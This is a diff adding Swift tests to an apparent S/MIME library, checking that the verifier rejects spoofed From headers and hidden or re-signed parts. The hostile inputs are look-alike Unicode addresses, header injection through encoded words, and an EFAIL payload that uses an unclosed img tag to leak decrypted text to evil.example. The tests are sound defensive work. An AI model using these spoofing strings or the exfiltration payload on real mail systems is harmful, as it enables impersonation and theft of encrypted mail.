@@ -40,6 +40,31 @@ struct SpoofingTests {
             "FROM: bob@example.org\r\nfrom: alice@example.org",
             "From:\r\n bob@example.org",
             "From: =?utf-8?q?alice=40example.org?= <bob@example.org>",
+            // Groups, whose name is none of an address (RFC 5322 §3.4).
+            "From: alice@example.org: bob@example.org;",
+            "From: Friends: alice@example.org, bob@example.org;",
+            // Comments, quotes, routes, literals, and what is left open.
+            "From: (alice@example.org) bob@example.org",
+            "From: \"alice@example.org\\\" <\" <bob@example.org>",
+            "From: <@alice@example.org:bob@example.org>",
+            "From: alice@[example.org]",
+            "From: \"alice@example.org",
+            "From: alice@example.org\r\n ,bob@example.org",
+            "From: alice@example.org\u{0}<bob@example.org>",
+            "From: alice @ example.org evil <bob@example.org>",
+            // The signer's address, and another one where the name should be.
+            "From: \"bob@example.org\" <alice@example.org>",
+            "From: Bob <bob@example.org> <alice@example.org>",
+            "From: =?utf-8?q?Bob_=3Cbob=40example.org=3E?= <alice@example.org>",
+            "From: =?utf-8?b?Ym9iQGV4YW1wbGUub3Jn?= <alice@example.org>",
+            "From: bob\u{FF20}example.org <alice@example.org>",
+            "From: alice@example.org (bob@example.org)",
+            // Look-alikes: another letter, a blank without width, an order that is turned round.
+            "From: \u{430}lice@example.org",
+            "From: alice@ex\u{430}mple.org",
+            "From: alice@example.org\u{200B}",
+            "From: =?utf-8?q?=E2=80=AEboB_=3Cgro=2Eelpmaxe=40bob=3E?= <alice@example.org>",
+            "From: =?utf-8?q?=0AFrom=3A_bob?= <alice@example.org>",
         ])
     func isNotGood(_ from: String) throws {
         let report = try verdict(try signed(from: from))
@@ -55,6 +80,9 @@ struct SpoofingTests {
         arguments: [
             "From: ALICE@EXAMPLE.ORG", "From: \"Alice\" <Alice@Example.Org>", "From: alice@example.org (Alice)",
             "From: Friends: alice@example.org;", "From: <alice@example.org>, Alice <alice@example.org>",
+            "From: \"alice@example.org\" <alice@example.org>", "From: Alice @ home <alice@example.org>",
+            "From: =?utf-8?q?=D7=90=E2=80=8E?= <alice@example.org>",
+            "Sender: bob@example.org\r\nFrom: alice@example.org",
         ])
     func isGood(_ from: String) throws {
         let report = try verdict(try signed(from: from))
@@ -74,6 +102,68 @@ struct SpoofingTests {
         // As an attachment of an unsigned mail.
         let forwarded = "From: alice@example.org\r\n\(Self.body)Content-Type: message/rfc822\r\n\r\n\(text)"
         #expect(try verdict(Array(forwarded.utf8)).verdict == .unsigned)
+    }
+
+    @Test("two fields that say what the message is")
+    func twoTypes() throws {
+        for more in [
+            "Content-Type: text/plain", "Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64",
+        ] {
+            for isFirst in [true, false] {
+                var text = String(decoding: try Peers.alice.sign(Peers.letter), as: UTF8.self)
+                let start = try #require(text.range(of: "Content-Type: multipart/signed"))
+                let blank = try #require(text.range(of: "\r\n\r\n")).lowerBound
+                text.insert(contentsOf: isFirst ? more + "\r\n" : "\r\n" + more, at: isFirst ? start.lowerBound : blank)
+                let report = try? verdict(Array(text.utf8))
+                #expect(report?.verdict != .good, "\(more)")
+            }
+        }
+    }
+
+    @Test("who signs a sealed mail need not have written it, and does not stand for it once it is open")
+    func signatureAroundSealed() throws {
+        // Mallory takes a mail that Alice sealed for Bob, and signs it as his own.
+        let sealed = try seal(Peers.letter, for: [Peers.bob.certificate])
+        let text = String(decoding: sealed, as: UTF8.self).replacing(
+            "From: Alice Example <alice@example.org>", with: "From: bob@example.org")
+        let stolen = try Peers.bob.sign(Array(text.utf8))
+        let report = try Peers.bob.open(stolen, trusting: Peers.root).report
+        #expect(report.verdict == .untrusted && report.explanation.contains("inside"), "\(report.explanation)")
+        #expect(report.signers.allSatisfy { $0.signature == .good })
+        // Signed inside as well, it is good; and of what stays closed nothing is shown under a name.
+        let tripled = try Peers.alice.sign(try seal(try Peers.alice.sign(Peers.letter), for: [Peers.bob.certificate]))
+        #expect(try Peers.bob.open(tripled, trusting: Peers.root).report.verdict == .good)
+        #expect(try verdict(Array(try Peers.alice.sign(sealed))).verdict == .good)
+    }
+
+    @Test(
+        "signed parts that are not what is seen first", arguments: ["alternative", "related", "mixed", "digest", "x"])
+    func hiddenParts(_ kind: String) throws {
+        let text = String(decoding: try Peers.alice.sign(Peers.letter), as: UTF8.self)
+        let part = text[try #require(text.range(of: "Content-Type: multipart/signed")).lowerBound...]
+        let other = "Content-Type: text/html\r\n\r\n<b>Pay Mallory.</b>"
+        for parts in [[other, String(part)], [String(part), other], [other, String(part), other]] {
+            let mail =
+                "From: alice@example.org\r\n\(Self.body)Content-Type: multipart/\(kind); boundary=x\r\n\r\n"
+                + parts.map { "--x\r\n\($0)\r\n" }.joined() + "--x--\r\n"
+            #expect(try verdict(Array(mail.utf8)).verdict == .unsigned)
+        }
+    }
+
+    @Test("a sealed part beside others is not opened (EFAIL), whatever stands around it")
+    func sealedPart() throws {
+        let text = String(decoding: try seal(Peers.letter, for: [Peers.bob.certificate]), as: UTF8.self)
+        let part = text[try #require(text.range(of: "Content-Type: application/pkcs7-mime")).lowerBound...]
+        for kind in ["mixed", "alternative", "related", "report"] {
+            let mail =
+                "From: alice@example.org\r\n\(Self.body)Content-Type: multipart/\(kind); boundary=x\r\n\r\n"
+                + "--x\r\nContent-Type: text/html\r\n\r\n<img src=\"https://evil.example/\r\n--x\r\n\(part)\r\n"
+                + "--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n"
+            for isSigned in [false, true] {
+                let bytes = isSigned ? Array(try Peers.alice.sign(Array(mail.utf8))) : Array(mail.utf8)
+                #expect(throws: SignetError.self, "\(kind)") { try Peers.bob.open(bytes, trusting: Peers.root) }
+            }
+        }
     }
 
     @Test("a third part beside content and signature is refused")
